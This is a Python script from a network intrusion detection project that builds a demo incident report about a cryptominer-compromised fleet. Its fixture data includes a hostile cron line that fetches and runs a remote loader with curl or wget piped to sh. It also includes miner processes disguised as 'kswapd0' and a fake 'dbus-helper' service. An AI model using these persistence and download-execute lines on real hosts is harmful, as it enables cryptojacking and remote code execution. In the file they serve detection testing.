"""The demo incident report: docs/report-demo.html, .json and the screenshot docs/report-demo.png.

Run: python tools/make_demo_report.py [--out DIR] [--no-screenshot]

Input: the alerts of pcaps/demo.pcap and pcaps/proxy_stratum.pcap (replayed), with the host
answers an agent gives on a compromised fleet (the shape the agent sends, built here with
the agent's own message types and judged by the sensor's own `correlate`): the two XMRig
hosts run the same binary from /tmp, relaunched by the same cron line that downloads it;
the proxy host runs xmrig-proxy from a systemd unit; the cgminer host and the proxy's
miners have no agent (network-only). Deterministic: no clock, fixed host facts.
"""

from __future__ import annotations

import argparse
import io
import shutil
import subprocess
import tempfile
from pathlib import Path

import msgspec

from netdetect.agent.schema import (
    SCHEMA_VERSION,
    HostFacts,
    HostReport,
    PersistenceEntry,
    ProcessFacts,
)
from netdetect.campaign import CampaignBook
from netdetect.correlate import Allowlist, correlate
from netdetect.hosts import HostIdentity
from netdetect.intel import load_intel
from netdetect.model import Alert, Suspect
from netdetect.report import build, render_html, write_report
from netdetect.service import replay
from netdetect.sinks.eve import EveWriter

REPO = Path(__file__).resolve().parents[1]
CAPTURES = ("pcaps/demo.pcap", "pcaps/proxy_stratum.pcap")
XMRIG_SHA256 = "3f1b0c6b6e0a8e5f2b1d6c4a9e7d2f0a5c8b3e6d1f4a7c0b9e2d5f8a1c4b7e0d"
PROXY_SHA256 = "9a7c2e4f6b8d0a1c3e5f7b9d1a3c5e7f9b1d3a5c7e9f1b3d5a7c9e1f3b5d7a9c"
CRON_LINE = ("*/15 * * * * (curl -fsSL http://203.0.113.77/ldr.sh || wget -qO- "
             "http://203.0.113.77/ldr.sh) | sh")
HOSTS = {  # miner address -> host id, as an inventory would say
    "10.20.12.8": "web-03", "10.20.12.9": "web-07", "10.20.4.17": "build-11",
    "10.30.0.10": "mine-proxy",
}


def _xmrig_report(host_id: str, pid: int, nonce: str) -> HostReport:
    return HostReport(
        v=SCHEMA_VERSION, host_id=host_id, nonce=nonce, generated_at=1_767_630_600.0,
        found=True,
        process=ProcessFacts(
            pid=pid, ppid=1, name="kswapd0", user="www-data", exe="/tmp/.X11-unix/kswapd0",
            exe_deleted=False, exe_suspicious_dir=True, exe_sha256=XMRIG_SHA256,
            cmdline=["/tmp/.X11-unix/kswapd0", "-o", "pool.supportxmr.com:3333", "--donate-level",
                     "1", "-B"],
            cwd="/tmp", start_time=1_767_600_000.0, cgroup="/system.slice/cron.service",
            container_id=None, netns="net:[4026531840]", threads=9, cpu_percent=386.0,
            rss_bytes=2_452_000_000, hugepages_kb=2_228_224,
            parents=["1:systemd"], traits=["cmdline: -o pool:port", "strings: xmrig"]),
        persistence=[PersistenceEntry(
            kind="cron", path="/var/spool/cron/crontabs/www-data", line=3, text=CRON_LINE,
            mtime=1_767_599_000.0, references_process=True, download_exec=True,
            technique="T1053.003")],
        host=HostFacts(cpu_count=4, load1=4.1, msr_module_loaded=True, nr_hugepages=1168))


def _proxy_report(nonce: str) -> HostReport:
    return HostReport(
        v=SCHEMA_VERSION, host_id="mine-proxy", nonce=nonce, generated_at=1_767_630_600.0,
        found=True,
        process=ProcessFacts(
            pid=812, ppid=1, name="xmrig-proxy", user="nobody", exe="/opt/.cache/xmrig-proxy",
            exe_deleted=False, exe_suspicious_dir=False, exe_sha256=PROXY_SHA256,
            cmdline=["/opt/.cache/xmrig-proxy", "--bind", "0.0.0.0:3333", "-o",
                     "pool.supportxmr.com:3333"],
            cwd="/", start_time=1_767_590_000.0, cgroup="/system.slice/dbus-helper.service",
            container_id=None, netns="net:[4026531840]", threads=3, cpu_percent=14.0,
            rss_bytes=48_000_000, hugepages_kb=0, parents=["1:systemd"],
            traits=["strings: xmrig-proxy", "listens on a stratum port"]),
        persistence=[PersistenceEntry(
            kind="systemd-service", path="/etc/systemd/system/dbus-helper.service", line=7,
            text="ExecStart=/opt/.cache/xmrig-proxy --bind 0.0.0.0:3333 -o "
                 "pool.supportxmr.com:3333",
            mtime=1_767_589_000.0, references_process=True, download_exec=False, reboot=True,
            technique="T1543.002")],
        host=HostFacts(cpu_count=2, load1=0.3, msr_module_loaded=False, nr_hugepages=0))


def judged(s: Suspect, n: int) -> Alert:
    """The sensor's verdict on `s` given the demo fleet's host answers."""
    host_id = HOSTS.get(s.miner.ip)
    allow = Allowlist()
    if host_id is None:
        return correlate(s, host=None, report=None, reason=None, allowlist=allow)
    nonce = f"{n:032x}"
    if host_id in ("web-03", "web-07"):
        report = _xmrig_report(host_id, 4100 + n, nonce)
    elif host_id == "mine-proxy":
        report = _proxy_report(nonce)
    else:
        return correlate(s, host=HostIdentity(host_id, managed=False), report=None,
                         reason=None, allowlist=allow)
    return correlate(s, host=HostIdentity(host_id), report=report, reason=None,
                     allowlist=allow)


def demo_eve() -> str:
    """The EVE lines of the demo fleet, each alert placed in its campaign."""
    import os

    os.chdir(REPO)
    intel = load_intel(REPO / "signatures")
    result = replay(list(CAPTURES), intel=intel, sinks=[])
    book = CampaignBook()
    buf = io.StringIO()
    eve = EveWriter(buf)
    for n, a in enumerate(result.alerts):
        alert = judged(a.suspect, n)
        eve.write(book.tag(_with_file(alert, a.pcap_filename)))
    return buf.getvalue()


def _with_file(alert: Alert, name: str | None) -> Alert:
    return msgspec.structs.replace(alert, pcap_filename=name)


def screenshot(html_path: Path, png: Path, *, width: int = 1280, height: int = 1500) -> None:
    browser = shutil.which("chromium") or shutil.which("chromium-browser")
    if browser is None:
        raise SystemExit("make_demo_report: chromium not found (scripts/bootstrap.sh installs it)")
    with tempfile.TemporaryDirectory() as profile:
        subprocess.run(
            [browser, "--headless=new", "--no-sandbox", "--disable-gpu", "--hide-scrollbars",
             f"--user-data-dir={profile}", f"--window-size={width},{height}",
             f"--screenshot={png}", html_path.resolve().as_uri()],
            check=True, capture_output=True, timeout=120)


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--out", default=str(REPO / "docs"))
    ap.add_argument("--no-screenshot", action="store_true")
    args = ap.parse_args()
    out = Path(args.out)
    out.mkdir(parents=True, exist_ok=True)
    text = demo_eve()
    (out / "report-demo.eve.json").write_text(text, encoding="utf-8")
    import json

    records = [json.loads(line) for line in text.splitlines()]
    doc = build(records, sources=["report-demo.eve.json"])
    write_report(doc, html_path=str(out / "report-demo.html"), json_path=None)
    assert render_html(doc)  # the same document the file holds
    if not args.no_screenshot:
        screenshot(out / "report-demo.html", out / "report-demo.png")
    print(f"wrote {out}/report-demo.eve.json, report-demo.html"
          + ("" if args.no_screenshot else ", report-demo.png"))


if __name__ == "__main__":
    main()
